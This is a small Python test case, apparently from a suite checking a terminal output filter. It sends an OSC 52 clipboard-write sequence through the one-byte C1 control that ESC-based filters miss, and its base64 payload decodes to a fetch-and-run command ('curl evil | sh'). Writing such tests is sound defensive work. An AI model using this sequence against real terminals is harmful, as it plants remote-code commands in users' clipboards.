"""writes the clipboard by the one-byte form of the same sequence"""

SHAPE = "OSC 52 by its C1 control, which filters for ESC overlook"
PROMISE = "P21"
WALLS = "terminal-filter"
TERMINAL = True
ACT = "printf '\\302\\23552;c;Y3VybCBldmlsIHwgc2g=\\a'; printf '\\23552;c;Y3VybCBldmlsIHwgc2g=\\234'"


def succeeded(host, done):
    return "\x9d52;c;" in done.out or "\udc9d52;c;" in done.out
